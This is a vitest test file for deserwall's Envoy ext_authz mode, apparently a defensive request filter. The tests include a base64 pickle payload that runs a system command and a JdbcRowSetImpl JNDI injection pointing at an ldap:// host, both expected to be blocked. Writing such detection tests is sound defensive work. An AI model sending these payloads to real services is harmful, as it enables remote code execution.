/**
 * `serve --ext-authz`: deserwall as an Envoy ext_authz HTTP service. Requests
 * are shaped as Envoy's http_service sends them (original method and path,
 * the allowed request headers, x-envoy-* and x-forwarded-* headers, the
 * buffered body with its Content-Length when with_request_body is set).
 * Allow = 200 with no body; deny = the block status with the finding JSON;
 * nothing is ever forwarded.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startProxy, type ProxyProcess } from '../helpers/processes.js';
import { rawRequest, req } from '../helpers/raw.js';

let authz: ProxyProcess;

beforeAll(async () => {
  authz = await startProxy('logging: { level: info }\nextAuthz: { pathPrefix: /authz }\n', ['--ext-authz']);
});
afterAll(async () => {
  await authz?.stop();
});

/** Headers Envoy adds when it calls an ext_authz http_service. */
function envoy(method: string, path: string, extra: string[], body = ''): Buffer {
  return req(
    [
      `${method} /authz${path} HTTP/1.1`,
      'Host: api.example.com',
      'User-Agent: curl/8.5.0',
      'X-Forwarded-Proto: https',
      'X-Request-Id: 6f1a0a52-1c1d-4a3a-9d59-3b3f5c7f1a11',
      'X-Envoy-Expected-Rq-Timeout-Ms: 200',
      'X-Envoy-Internal: true',
      ...extra,
      ...(body ? [`Content-Length: ${Buffer.byteLength(body)}`] : []),
    ],
    body,
  );
}

describe('ext_authz service mode', () => {
  it('states the service mode at start and needs no upstream', () => {
    const start = authz.logs.find((l) => l.msg === 'deserwall listening')!;
    expect(start.service).toBe('ext_authz');
    expect(start.upstream).toBeNull();
  });

  it('allows a clean request with 200 and no body', async () => {
    const r = await rawRequest(authz.port, envoy('POST', '/api/items', ['Content-Type: application/json'], '{"name":"pickle jar"}'));
    expect(r.responses[0]?.status).toBe(200);
    expect(r.responses[0]!.body.length).toBe(0);
    expect(r.responses[0]!.headers['x-deserwall-verdict']).toBe('clean');
    expect(r.responses[0]!.headers['x-request-id']).toBe('6f1a0a52-1c1d-4a3a-9d59-3b3f5c7f1a11');
  });

  it('denies a pickle in the body with 403 and the finding (Envoy relays it to the client)', async () => {
    const body = JSON.stringify({ model: 'gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==' });
    const r = await rawRequest(authz.port, envoy('POST', '/api/import', ['Content-Type: application/json'], body));
    expect(r.responses[0]?.status).toBe(403);
    const answer = JSON.parse(r.responses[0]!.body.toString());
    expect(answer).toMatchObject({ error: 'blocked', rule: 'DW-PICKLE-001', family: 'pickle' });
  });

  it('routes on the path without the path_prefix', async () => {
    const r = await rawRequest(authz.port, envoy('GET', '/ok?x=1', []));
    expect(r.responses[0]?.status).toBe(200);
    const line = await authz.waitForLog((l) => l.type === 'access' && l.path === '/ok');
    expect(line.status).toBe(200);
  });

  it('denies a query-string attack on a bodyless request', async () => {
    const r = await rawRequest(authz.port, envoy('GET', `/search?q=${encodeURIComponent('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/y"}')}`, []));
    expect(r.responses[0]?.status).toBe(403);
  });

  it('refuses a partial body (x-envoy-auth-partial-body: true) with 413', async () => {
    const r = await rawRequest(authz.port, envoy('POST', '/upload', ['Content-Type: application/octet-stream', 'X-Envoy-Auth-Partial-Body: true'], 'first part only'));
    expect(r.responses[0]?.status).toBe(413);
    expect(JSON.parse(r.responses[0]!.body.toString()).code).toBe('DW_ERR_PARTIAL_BODY');
  });

  it('applies the same framing checks as the proxy', async () => {
    const r = await rawRequest(authz.port, envoy('POST', '/x', ['Content-Type: text/plain', 'Transfer-Encoding: gzip, chunked'], ''));
    expect(r.responses[0]?.status).toBe(400);
  });
});
